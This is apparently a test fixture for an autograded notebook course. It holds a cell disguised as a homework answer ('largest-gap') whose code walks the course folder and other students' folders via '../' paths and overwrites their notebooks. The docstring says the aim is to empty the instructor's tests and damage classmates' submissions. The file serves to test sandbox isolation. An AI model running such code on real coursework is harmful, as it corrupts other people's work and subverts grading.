"""Empty the tests in the instructor's notebook, and damage what other students handed in.

Success: a file of the course or of another student is changed.
"""

cells = {
    "largest-gap": """
import glob, pathlib

largest_gap = 1
for path in glob.glob("@COURSE@/**/*.ipynb", recursive=True) + glob.glob("../../../*/*/*/*.ipynb"):
    if "tests-rewritten" not in path:
        try:
            text = pathlib.Path(path).read_text()
            pathlib.Path(path).write_text(text.replace("prices", "@MARK@"))
        except OSError as error:
            print(error)
"""
}


def succeeded(outcome):
    return outcome.harmed_class
